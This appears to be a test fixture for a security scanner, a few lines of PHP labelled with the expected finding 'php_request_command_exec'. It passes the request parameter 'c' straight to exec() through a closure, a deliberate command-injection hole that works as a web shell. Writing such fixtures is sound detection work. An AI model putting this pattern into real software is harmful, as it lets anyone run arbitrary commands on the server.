<?php
// want: php_request_command_exec
$cmd = $_GET['c'];
$run = function () use ($cmd) { return exec($cmd); };
$run();
